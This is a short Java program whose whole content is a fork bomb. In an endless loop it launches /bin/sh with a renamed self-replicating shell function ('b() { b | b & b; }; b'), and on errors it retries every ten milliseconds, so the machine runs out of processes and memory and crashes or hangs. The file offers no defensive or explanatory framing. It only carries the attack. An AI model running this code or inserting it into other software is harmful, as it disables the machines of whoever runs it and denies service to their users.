// Starts shells that start shells, and does not wait for any.
public class Main {
  public static void main(String[] args) throws Exception {
    for (;;) {
      try {
        new ProcessBuilder("/bin/sh", "-c", "b() { b | b & b; }; b").inheritIO().start();
      } catch (java.io.IOException error) {
        Thread.sleep(10);
      }
    }
  }
}
